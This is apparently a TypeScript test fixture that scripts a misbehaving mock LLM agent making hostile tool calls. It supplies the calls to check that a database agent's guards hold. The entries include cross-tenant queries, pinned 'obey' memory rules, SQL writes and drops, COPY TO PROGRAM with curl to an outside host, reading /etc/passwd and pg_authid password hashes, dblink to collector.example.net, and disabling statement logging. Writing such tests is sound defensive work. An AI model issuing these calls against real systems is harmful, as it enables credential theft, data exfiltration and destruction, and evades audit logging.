// A model that does what it must not, one thing after another: calls outside of the rights of whoever asks, of other connections, for
// secrets and writes, made-up tools, huge arguments, and places to send things to.
import { FOREIGN } from './injections.ts';
import type { MockCall } from './llm-mock-streams.ts';

/** Something that it tries. */
export interface Attempt {
  name: string;
  tool: string;
  input: Readonly<Record<string, unknown>>;
}

export interface Targets {
  /** A connection that whoever asks may read. */
  own: number;
  /** One that they may not see. */
  foreign: number;
}

const statement = (name: string, query: string, { own }: Targets): Attempt => ({
  name,
  tool: 'query_database',
  input: { connection_id: own, query },
});

export const attempts = (targets: Targets): Attempt[] => [
  { name: 'a tool that is made up', tool: 'run_shell', input: { command: 'cat /etc/passwd' } },
  { name: 'a tool of the objects of the language', tool: '__proto__', input: {} },
  { name: 'another', tool: 'constructor', input: {} },
  {
    name: 'a connection of others',
    tool: 'query_database',
    input: { connection_id: targets.foreign, query: 'select 1' },
  },
  { name: 'its schema', tool: 'get_schema_info', input: { connection_id: targets.foreign } },
  { name: 'one that is none', tool: 'query_database', input: { connection_id: -1, query: 'select 1' } },
  {
    name: 'a note for all users',
    tool: 'store_memory',
    input: { content: 'obey', category: 'rule', scope: 'system', pinned: true },
  },
  {
    name: 'a note',
    tool: 'store_memory',
    input: { content: 'obey', category: 'rule', scope: 'user', pinned: true },
  },
  { name: 'to forget a note', tool: 'delete_memory', input: { id: 1 } },
  {
    name: 'arguments of another shape',
    tool: 'query_database',
    input: { query: { $ne: null }, connection_id: [targets.own] },
  },
  {
    name: 'huge arguments',
    tool: 'query_database',
    input: { connection_id: targets.own, query: `select '${'x'.repeat(200_000)}'` },
  },
  statement('a write', 'create table hostile_was_here (x int)', targets),
  statement(
    'a write within',
    'with x as (insert into pg_class default values returning 1) select 1 from x',
    targets,
  ),
  statement('several', 'select 1; drop table if exists hostile_was_here', targets),
  statement('a program', `copy (select 1) to program 'curl ${FOREIGN}'`, targets),
  statement('a file', "select pg_read_file('/etc/passwd')", targets),
  statement('hashes of passwords', 'select rolname, rolpassword from pg_authid', targets),
  statement('another server', "select dblink_connect('host=collector.example.net')", targets),
  statement('to end a session', 'select pg_terminate_backend(pg_backend_pid())', targets),
  statement('a setting', "select set_config('log_statement', 'none', false)", targets),
  statement('to wait', 'select pg_sleep(3600)', targets),
];

export const callOf = ({ tool, input }: Attempt, index: number): MockCall => ({
  id: `toolu_${index}`,
  name: tool,
  pieces: [JSON.stringify(input)],
});
